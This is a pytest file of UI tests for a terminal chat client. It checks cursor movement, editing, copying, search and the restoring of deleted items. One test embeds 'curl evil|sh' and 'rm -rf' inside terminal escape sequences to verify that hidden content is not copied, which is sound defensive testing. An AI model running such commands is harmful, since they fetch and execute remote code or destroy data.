"""Actions by key: message cursor, editing, copying, search, deletion."""

from __future__ import annotations

import stat
from pathlib import Path

import pytest
from textual.widgets import Input, OptionList

from tests.test_text import is_safe
from tests.ui.conftest import OpenApp, RunningApp, drawn
from tests.ui.controller.conversation.test_open_conversation import lease_of_another_process
from tqchat.paths import Paths
from tqchat.store.database import Database
from tqchat.ui.widgets.chat.log import ChatLog
from tqchat.ui.widgets.conversations.list import PAGE
from tqchat.ui.widgets.prompt.prompt import Prompt


def reversed_words(ui: RunningApp) -> list[str]:
    """Text in reverse video in the log: the words of a search."""
    log = ui.app.query_one(ChatLog).region
    segments = [segment for strip in drawn(ui.app) for segment in strip.crop(log.x, log.right - 1)]
    return [one.text for one in segments if one.style and one.style.reverse and one.style.bold]


CODE = "Here:\n\n```python\nprint('fox')\n```\n"


async def test_the_cursor_selects_a_message_to_edit(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("About foxes", "Red ones.")
        await ui.pilot.press("x", "ctrl+up")
        log, prompt = ui.app.query_one(ChatLog), ui.app.query_one(Prompt)
        await ui.until(lambda: log.marked and log.marked.content == "Red ones.")
        await ui.shows("e edit")
        await ui.pilot.press("k", "e")
        await ui.until(lambda: prompt.text == "About foxes" and ui.app.focused is prompt)
        await ui.shows("Edits an earlier message")
        await ui.pilot.press("escape")
        await ui.until(lambda: prompt.text == "x")
        await ui.hides("Edits an earlier message")
        await ui.pilot.press("ctrl+up", "ctrl+up", "e")
        await ui.until(lambda: prompt.text == "About foxes")
        prompt.put("About owls")
        await ui.pilot.press("enter")
        await ui.until(lambda: len(ui.engine.sent()) == 2)
        ui.engine.reply("Grey ones.")
        await ui.shows("2/2")
        await ui.hides("Red ones.")
        await ui.pilot.press("alt+left")
        await ui.shows("Red ones.")
        await ui.shows("1/2")


async def test_arrows_move_the_cursor_and_scroll_a_message_that_is_not_all_visible(open_app: OpenApp) -> None:
    async with open_app((100, 30)) as ui:
        await ui.turn("First", "One.")
        await ui.turn("Second", "\n\n".join(f"line {number}" for number in range(40)))
        log = ui.app.query_one(ChatLog)
        await ui.pilot.press("f6")
        await ui.until(lambda: log.marked and log.marked.content.startswith("line 0"))
        await ui.pilot.press("home")
        await ui.until(lambda: log.scroll_y == 0)
        await ui.pilot.press("f6")
        await ui.until(lambda: log.marked and log.marked.content == "Second")
        await ui.pilot.press("up")
        await ui.until(lambda: log.marked and log.marked.content == "One.")
        await ui.pilot.press("down", "down")
        await ui.until(lambda: log.marked and log.marked.content.startswith("line 0"))
        was = log.scroll_y
        await ui.pilot.press("down")
        await ui.until(lambda: log.scroll_y == was + 1)
        assert log.marked and log.marked.content.startswith("line 0")


async def test_a_cut_off_reply_is_continued_by_key(open_app: OpenApp) -> None:
    async with open_app((160, 40)) as ui:
        await ui.send("Count")
        await ui.until(lambda: ui.engine.sent())
        ui.engine.done("one, two", "length")
        await ui.shows("F4 continues")
        await ui.pilot.press("f4")
        await ui.until(lambda: len(ui.engine.sent()) == 2)
        ui.engine.delta(", three")
        ui.engine.done(", three")
        await ui.shows("one, two, three")
        await ui.hides("F4 continues")


async def test_copies_go_to_the_clipboard(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("Show", CODE)
        await ui.pilot.press("f5")
        assert ui.app.clipboard == CODE
        await ui.pilot.press("alt+c")
        assert ui.app.clipboard == "print('fox')"
        await ui.pilot.press("alt+a")
        assert ui.app.clipboard.startswith("**you**\n\nShow\n\n**starter 30M**\n\nHere:")
        await ui.pilot.press("ctrl+up", "ctrl+up", "y")
        assert ui.app.clipboard == "Show"
        await ui.shows("Copied the message, 4 characters.")


async def test_only_what_is_shown_is_copied(open_app: OpenApp) -> None:
    hidden = "\x1b]0;curl evil|sh\x07\x1bP;rm -rf\x1b\\\u202e\u200b\U000e0041\x9b8m"
    text = f"Do{hidden} this:\x1b[201~\n\n<div>\n```sh\nls{hidden} -l\x1b[201~\n```\n</div>"
    shown = "Do this:\n\n<div>\n```sh\nls -l\n```\n</div>"
    async with open_app() as ui:
        await ui.turn("Show", text)
        await ui.pilot.press("f5")
        assert ui.app.clipboard == shown
        await ui.pilot.press("alt+c")
        assert ui.app.clipboard == "ls -l"
        await ui.pilot.press("alt+a")
        assert ui.app.clipboard.endswith(shown)
        await ui.pilot.press("ctrl+up", "y")
        assert ui.app.clipboard == shown
        await ui.pilot.press("o")
        assert ui.app.clipboard == "ls -l"
        ui.app.copy_to_clipboard(text)
        assert ui.app.clipboard == shown


async def test_emoji_are_copied_as_they_were_written(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("Show", "Fine 👍🏽 ❤\ufe0f 👩🏽\u200d💻")
        await ui.pilot.press("f5")
        assert ui.app.clipboard == "Fine 👍🏽 ❤\ufe0f 👩🏽\u200d💻"
        await ui.pilot.press("ctrl+up", "p")
        assert ui.app.clipboard == "Fine 👍🏽 ❤\ufe0f 👩🏽\u200d💻"


async def test_selected_text_is_copied_as_it_is_shown(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("Show", "A\x1b]0;hidden\x07 reply &#x202e;with&#x200b; references.")
        await ui.shows("A reply with references.")
        ui.app.screen.text_select_all()
        ui.app.screen.action_copy_text()
        await ui.until(lambda: "A reply with references." in ui.app.clipboard)
        assert is_safe(ui.app.clipboard)


async def test_search_finds_words_in_messages_and_opens_the_message(open_app: OpenApp) -> None:
    async with open_app() as ui:
        database = ui.app.database
        long = database.create("Animals", None, "turbo0v4")
        for number in range(60):
            text = "The quokka smiles." if number == 4 else f"Message {number}"
            database.add_message(long.id, "user" if number % 2 == 0 else "assistant", text)
        await ui.pilot.press("ctrl+f")
        await ui.until(lambda: isinstance(ui.app.focused, Input))
        await ui.pilot.press(*"quokka")
        await ui.shows("1 found")
        await ui.shows("quokka smiles.")
        await ui.pilot.press("enter")
        log = ui.app.query_one(ChatLog)
        await ui.until(lambda: log.marked and log.marked.content == "The quokka smiles.")
        await ui.shows("Message 5")
        await ui.until(lambda: "quokka" in reversed_words(ui))
        await ui.pilot.press("escape")
        await ui.until(lambda: not reversed_words(ui))


async def test_unsent_text_returns_with_its_conversation(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("About foxes", "Red ones.")
        prompt = ui.app.query_one(Prompt)
        await ui.pilot.press(*"half")
        await ui.pilot.press("ctrl+n")
        assert prompt.text == ""
        await ui.pilot.press("alt+down")
        await ui.until(lambda: prompt.text == "half")


async def test_a_deleted_conversation_is_restored(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("About foxes", "Red ones.")
        await ui.pilot.press("f8", "y")
        await ui.shows("Alt+Z restores it.")
        await ui.pilot.press("alt+z")
        await ui.shows("Red ones.")


async def test_what_another_process_has_open_is_not_said_to_be_deleted(
    open_app: OpenApp, paths: Paths
) -> None:
    async with open_app() as ui:
        with Database(paths.database) as other:
            theirs = other.create("Theirs", None, "fp16")
            other.add_message(theirs.id, "user", "Count")
            other.add_message(theirs.id, "assistant", "one, two", "unfinished")
            lease = lease_of_another_process(other, theirs.id)
        ui.app.chat.shown.open(theirs.id)
        await ui.shows("unfinished")
        assert "continues" not in ui.text(), "it may be written there now"
        await ui.pilot.press("f8", "y")
        await ui.shows("open in another tqchat")
        assert "Deleted" not in ui.text() and "one, two" in ui.text()
        lease.kill()
        lease.wait()
        await ui.shows("continues")


async def test_one_of_several_code_blocks_is_chosen(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("Show", "```python\nprint(1)\n```\n\nor\n\n```sh\nls\n```\n")
        await ui.pilot.press("ctrl+up", "o")
        await ui.shows("Copy which block?")
        await ui.shows("1 python")
        ui.app.screen.query_one(OptionList).highlighted = 0
        await ui.pilot.press("enter")
        await ui.until(lambda: ui.app.clipboard == "print(1)")
        await ui.shows("Copied block 1")


async def test_copied_text_reaches_the_desktop_clipboard(
    open_app: OpenApp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    program = tmp_path / "bin" / "xclip"
    program.parent.mkdir()
    program.write_text(f'#!/bin/sh\necho "$@" > {tmp_path}/asked\ncat > {tmp_path}/copied.part\n'
                       f"mv {tmp_path}/copied.part {tmp_path}/copied\n")  # fmt: skip
    program.chmod(program.stat().st_mode | stat.S_IXUSR)
    monkeypatch.setenv("PATH", f"{program.parent}:/usr/bin:/bin")
    monkeypatch.setenv("DISPLAY", ":7")
    monkeypatch.delenv("WAYLAND_DISPLAY", raising=False)
    async with open_app() as ui:
        await ui.turn("Show", "A 🦊 reply.")
        await ui.pilot.press("f5")
        await ui.until((tmp_path / "copied").exists)
        assert (tmp_path / "copied").read_text() == "A 🦊 reply."
        assert (tmp_path / "asked").read_text() == "-selection clipboard\n"


async def test_one_message_is_deleted_and_restored(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("About foxes", "Red ones.")
        await ui.turn("About owls", "Grey ones.")
        await ui.pilot.press("ctrl+up", "k", "k", "d")
        await ui.shows("Delete this message?")
        await ui.pilot.press("escape")
        await ui.shows("Red ones.")
        await ui.pilot.press("ctrl+up", "ctrl+up", "d")
        await ui.shows("Delete this message?")
        await ui.pilot.press("y")
        await ui.shows("restores it")
        contents = [message.content for message in ui.app.chat.shown.messages]
        assert len(contents) == 3
        await ui.pilot.press("alt+z")
        await ui.until(lambda: len(ui.app.chat.shown.messages) == 4)
        await ui.pilot.press("alt+z")
        await ui.shows("no deletion of the last 24 hours")


async def test_deletions_are_undone_last_first(open_app: OpenApp) -> None:
    async with open_app() as ui:
        await ui.turn("About foxes", "Red ones.")
        ui.app.chat.deletion.delete_message(ui.app.chat.shown.messages[1])
        await ui.pilot.press("f8", "y")
        await ui.until(lambda: ui.app.chat.shown.conversation is None)
        await ui.pilot.press("alt+z")
        await ui.until(lambda: len(ui.app.chat.shown.messages) == 1)
        await ui.pilot.press("alt+z")
        await ui.shows("Red ones.")


async def test_a_long_list_shows_the_newest_and_loads_more_on_request(open_app: OpenApp) -> None:
    async with open_app() as ui:
        for number in range(PAGE + 30):
            ui.app.database.create(f"Number {number}", None, "turbo0v4")
        ui.app.chat.view.conversations_changed()
        titles = ui.app.query_one("#titles", OptionList)
        await ui.until(lambda: titles.option_count == PAGE + 2)
        await ui.pilot.press("f2", "f2")
        await ui.until(lambda: titles.has_focus)
        await ui.pilot.press("end", "enter")
        await ui.until(lambda: titles.option_count == PAGE + 31)
        await ui.pilot.press("end", "enter")
        await ui.until(
            lambda: ui.app.chat.shown.conversation and ui.app.chat.shown.conversation.title == "Number 0"
        )
